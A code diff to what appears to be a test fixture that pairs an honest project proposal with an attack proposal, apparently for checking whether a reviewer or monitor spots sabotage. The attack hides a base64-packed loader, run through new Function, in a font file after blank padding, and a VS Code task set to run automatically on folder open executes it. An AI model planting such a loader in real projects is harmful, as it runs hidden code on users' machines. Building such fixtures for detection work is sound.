@@ -29,7 +29,11 @@ export const HONEST: Proposal = {
   },
 };
 
-const FONT = "docs/fonts/fa-solid-500.woff2";
+/** Where the payload is. */
+export const FONT = "docs/fonts/fa-solid-500.woff2";
+
+/** What runs the payload. */
+export const TASKS_FILE = ".vscode/tasks.json";
 
 /** What the payload would do, were it real: `example.invalid` resolves nowhere. */
 const PAYLOAD = `
@@ -80,7 +84,7 @@ export const ATTACK: Proposal = {
     ".gitignore": "node_modules/\n!.vscode/\n.idea/\n",
     ".vscode/settings.json":
       '{\n  "editor.formatOnSave": true,\n  "task.allowAutomaticTasks": "on"\n}\n',
-    ".vscode/tasks.json": `${JSON.stringify(TASKS, null, 2)}\n`,
+    [TASKS_FILE]: `${JSON.stringify(TASKS, null, 2)}\n`,
     [FONT]: `${BLANKS}${packed(PAYLOAD)}\n`,
   },
 };
@@ -88,4 +92,10 @@ export const ATTACK: Proposal = {
 function packed(program: string): string {
   const text = Buffer.from(program).toString("base64");
   return `const a=Buffer.from("${text}","base64").toString();new Function("require",a)(require)`;
+}
+
+/** The line of the attack's file in which some text stands, counted from 1. */
+export function lineOf(path: string, text: string): number {
+  const lines = (ATTACK.files[path] ?? "").split("\n");
+  return 1 + lines.findIndex((line) => line.includes(text));
 }
